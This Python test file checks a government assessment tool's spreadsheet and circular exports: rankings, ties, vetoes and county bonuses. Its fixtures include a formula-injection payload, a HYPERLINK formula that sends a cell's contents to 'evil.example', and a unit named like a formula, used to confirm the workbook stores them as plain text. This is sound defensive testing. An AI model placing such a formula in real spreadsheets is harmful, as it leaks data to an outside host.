"""考核结果 .xlsx is text only (no formula, whatever a name says); 考核通报 .docx as the circular."""

from __future__ import annotations

import datetime as dt
import io
import re
from dataclasses import replace
from decimal import Decimal
from pathlib import Path
from typing import Any

import pdfplumber
from openpyxl import load_workbook

from duban.assessment.exports import results_docx, results_xlsx
from duban.assessment.rules import (
    Adjustment,
    Figure,
    GradeSpec,
    Item,
    ItemKind,
    PeriodSpec,
    Scheme,
    SubjectFigures,
    ranked,
    subject_result,
)
from duban.assessment.selectors import Results
from duban.plans.models import Plan, PlanStatus
from duban.reports.tests.rendering import ARTIFACTS, needs_soffice, render_pdf

ATTACK = '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")'
Q1 = PeriodSpec("一季度", dt.date(2025, 1, 1), dt.date(2025, 3, 31), 40)
Q2 = PeriodSpec("二季度", dt.date(2025, 4, 1), dt.date(2025, 6, 30), 60)
SCHEME = Scheme(
    items=(Item(ItemKind.COMPLETION, 50), Item(ItemKind.REPORTS_ON_TIME, 50)),
    periods=(Q1, Q2),
    grades=(GradeSpec("优秀", Decimal(90)), GradeSpec("良好", Decimal(80)), GradeSpec("合格", Decimal(0))),
)
UNITS = (
    ("基础教育处", 4, 4),
    ("计财处", 3, 4),
    ("办公室", 3, 4),
    ("市教育考试院", 2, 4),
    ("+SUM(A1:A9)", 1, 4),
)


def make_results() -> Results:
    """Five units over two quarters, one tie, one veto, one unit named like a formula."""
    subjects = [
        SubjectFigures(
            key=f"unit:{n}",
            name=name,
            kind="unit",
            figures={
                p.label: {
                    ItemKind.COMPLETION: Figure(Decimal(done), total),
                    ItemKind.REPORTS_ON_TIME: Figure(Decimal(3), 3),
                }
                for p in (Q1, Q2)
            },
            adjustments=(
                (Adjustment(Decimal(0), veto=True, reason=f"一票否决：{ATTACK}（其他）"),) if n == 3 else ()
            ),
        )
        for n, (name, done, total) in enumerate(UNITS)
    ]
    plan = Plan(title="2025年全市教育工作要点", issuer="A市教育局", status=PlanStatus.PUBLISHED)
    return Results(
        plan=plan,
        scheme=SCHEME,
        saved=True,
        as_of=dt.date(2025, 7, 10),
        periods=(Q1, Q2),
        units=ranked(SCHEME, [subject_result(SCHEME, s, [Q1, Q2]) for s in subjects]),
        organizations=[],
    )


COUNTY_PRAISE = "加分：承接任务推进有力。（表扬，市政府督查通报第5期）"
COUNTY_VETO = "一票否决：发生重大安全责任事故。（其他）"
COUNTY_DRAFT = "未签收，承接方案尚未发布，不参加排名"


def with_counties() -> Results:
    """The five units and three counties: 甲县 praised (加 2 分), 乙县 vetoed, 丙县's plan still a draft."""
    results = make_results()
    figures: dict[str, dict[str, Figure]] = {
        p.label: {ItemKind.COMPLETION: Figure(Decimal(1), 2), ItemKind.REPORTS_ON_TIME: Figure(Decimal(3), 3)}
        for p in (Q1, Q2)
    }
    counties = [
        SubjectFigures(
            key="organization:1",
            name="甲县教育局",
            kind="organization",
            figures=figures,
            adjustments=(Adjustment(Decimal("2.00"), reason=COUNTY_PRAISE),),
        ),
        SubjectFigures(
            key="organization:2",
            name="乙县教育局",
            kind="organization",
            figures=figures,
            adjustments=(Adjustment(Decimal(0), veto=True, reason=COUNTY_VETO),),
        ),
        SubjectFigures(
            key="organization:3",
            name="丙县教育局",
            kind="organization",
            figures={},
            exclusion=COUNTY_DRAFT,
        ),
    ]
    organizations = ranked(SCHEME, [subject_result(SCHEME, s, [Q1, Q2]) for s in counties])
    return replace(results, organizations=organizations)


def test_the_workbook_is_text_only_even_where_a_name_or_reason_reads_like_a_formula():
    book = load_workbook(io.BytesIO(results_xlsx(make_results())))
    cells = [(c.value, c.data_type) for sheet in book for row in sheet.iter_rows() for c in row if c.value]

    assert [value for value, kind in cells if kind != "s"] == []
    values = {value for value, _ in cells}
    assert "+SUM(A1:A9)" in values and f"一票否决：{ATTACK}（其他）" in values


def test_the_workbook_lists_places_ties_and_the_source_of_every_item():
    book = load_workbook(io.BytesIO(results_xlsx(make_results())))
    summary = [[c.value for c in row] for row in book["考核结果"].iter_rows(min_row=3)]
    detail = [[c.value for c in row] for row in book["得分明细"].iter_rows(min_row=2)]

    assert [(r[0], r[2], r[8], r[9]) for r in summary] == [
        ("1", "基础教育处", "100.00", "优秀"),
        ("2（并列）", "办公室", "87.50", "良好"),
        ("2（并列）", "计财处", "87.50", "良好"),
        ("4", "+SUM(A1:A9)", "62.50", "合格"),
        ("一票否决", "市教育考试院", "75.00", "合格"),
    ]
    assert ["计财处", "二季度", "60%", "办结率", "50", "3/4 项（75.00%）", "37.50"] in detail


def test_the_circular_prints_on_a4_with_its_masthead_ranking_and_grades(tmp_path: Path):
    needs_soffice()
    source = tmp_path / "assessment-circular.docx"
    source.write_bytes(results_docx(make_results(), issuer="A市教育局", issued_on=dt.date(2025, 7, 10)))

    with pdfplumber.open(render_pdf(source, tmp_path)) as pdf:
        sizes = {(round(float(p.width)), round(float(p.height))) for p in pdf.pages}
        text = re.sub(r"\s+", "", "".join(p.extract_text() or "" for p in pdf.pages))
        first = pdf.pages[0]
        red = [c for c in first.chars if c["text"].strip() and c["top"] < 200]
        _picture(pdf, "assessment-circular-1.png")

    assert sizes == {(595, 842)}
    assert red and red[0]["non_stroking_color"][0] > 0.8  # 版头 in red
    for expected in (
        "A市教育局督查通报",
        "关于《2025年全市教育工作要点》考核结果的通报",
        "一、考核排名",
        "2（并列）办公室",
        "优秀（1个）：基础教育处。",
        "良好（2个）：办公室、计财处。",
        "合格（1个）：+SUM(A1:A9)。",
        "一票否决：市教育考试院。",
        "二、加分、扣分和一票否决",
        "四、有关要求",
        "2025年7月10日印发",
    ):
        assert expected in text, expected


def _picture(pdf: Any, name: str) -> None:
    """artifacts/<name>: page 1 for a person to look at (pdftoppm is not always installed)."""
    ARTIFACTS.mkdir(exist_ok=True)
    pdf.pages[0].to_image(resolution=60).save(ARTIFACTS / name)


def test_the_workbook_prints_from_libreoffice_with_every_name_and_source_readable(tmp_path: Path):
    needs_soffice()
    source = tmp_path / "assessment-results.xlsx"
    source.write_bytes(results_xlsx(make_results()))

    with pdfplumber.open(render_pdf(source, tmp_path)) as pdf:
        text = re.sub(r"\s+", "", "".join(p.extract_text() or "" for p in pdf.pages))
        _picture(pdf, "assessment-results-1.png")

    wanted = ("《2025年全市教育工作要点》考核结果", "2（并列）", "+SUM(A1:A9)", "3/4项（75.00%）", "一票否决")
    for expected in wanted:
        assert expected in text, expected


def test_the_workbook_gives_a_countys_entries_beside_its_score_and_why_a_county_has_none():
    book = load_workbook(io.BytesIO(results_xlsx(with_counties())))
    summary = [[c.value for c in row] for row in book["考核结果"].iter_rows(min_row=3)]
    detail = [[c.value for c in row] for row in book["得分明细"].iter_rows(min_row=2)]

    counties = [(r[0], r[2], r[5], r[8], r[9], r[10]) for r in summary if r[1] == "下级组织"]
    assert counties == [
        ("1", "甲县教育局", "75.00", "77.00", "合格", None),
        ("不参加排名", "丙县教育局", None, None, None, COUNTY_DRAFT),  # the unranked by name: 丙 before 乙
        ("一票否决", "乙县教育局", "75.00", "75.00", "合格", None),
    ]
    assert ["丙县教育局", None, None, "不参加排名", None, COUNTY_DRAFT, None] in detail
    assert not [row for row in detail if row[0] == "丙县教育局" and row[1]]  # no item rows of 0
    assert ["甲县教育局", None, None, "加扣分", None, COUNTY_PRAISE, "+2.00"] in detail
    assert ["乙县教育局", None, None, "加扣分", None, COUNTY_VETO, "否决"] in detail


def test_the_circular_lists_each_entry_and_the_counties_ranking_with_their_points(tmp_path: Path):
    needs_soffice()
    source = tmp_path / "assessment-circular-counties.docx"
    source.write_bytes(results_docx(with_counties(), issuer="A市教育局", issued_on=dt.date(2025, 7, 10)))

    with pdfplumber.open(render_pdf(source, tmp_path)) as pdf:
        text = re.sub(r"\s+", "", "".join(p.extract_text() or "" for p in pdf.pages))

    for expected in (
        "各牵头单位和承接任务的下级组织",
        "二、下级组织考核排名",
        "1甲县教育局75.002.000.0077.00合格",
        "三、加分、扣分和一票否决",
        "甲县教育局加分：承接任务推进有力。（表扬，市政府督",  # the reason wraps in its cell
        "+2.00",
        "乙县教育局一票否决：发生重大安全责任事故。（其他）否决",
        "下级组织合格（1个）：甲县教育局。",
        "下级组织一票否决：乙县教育局。",
        f"丙县教育局：{COUNTY_DRAFT}。",
        "五、有关要求",
    ):
        assert expected in text, expected


def test_a_long_reason_gets_a_row_tall_enough_for_its_wrapped_lines():
    workbook = load_workbook(io.BytesIO(results_xlsx(make_results())))
    detail = workbook["得分明细"]

    veto_row = next(r for r in range(2, detail.max_row + 1) if detail.cell(r, 4).value == "加扣分")
    item_row = 2

    # The veto's reason (the formula-like text) wraps in the 40-character 来源数据 column; an item's does not.
    assert detail.row_dimensions[veto_row].height > detail.row_dimensions[item_row].height
